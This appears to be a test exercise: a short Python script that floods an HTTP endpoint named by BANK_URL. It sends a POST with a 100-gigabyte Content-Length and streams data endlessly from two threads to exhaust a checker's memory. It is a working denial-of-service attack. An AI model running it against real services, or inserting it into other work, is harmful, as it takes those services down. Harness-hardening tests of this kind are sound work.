# exercise: ledger
"""Sends the check's partner request bodies without end.

Aims: the memory of the check, which keeps what its partner was sent.
Ends: not_yet
"""

import os
import socket
import threading
from urllib.parse import urlsplit


def flood():
    bank = urlsplit(os.environ.get("BANK_URL", "http://127.0.0.1:1"))
    try:
        with socket.create_connection((bank.hostname, bank.port)) as sock:
            sock.sendall(b"POST / HTTP/1.1\r\nHost: b\r\nContent-Length: 100000000000\r\n\r\n")
            while True:
                sock.sendall(b"x" * 1_000_000)
    except OSError:
        return


for _ in range(2):
    threading.Thread(target=flood, daemon=True).start()
# app: shipped
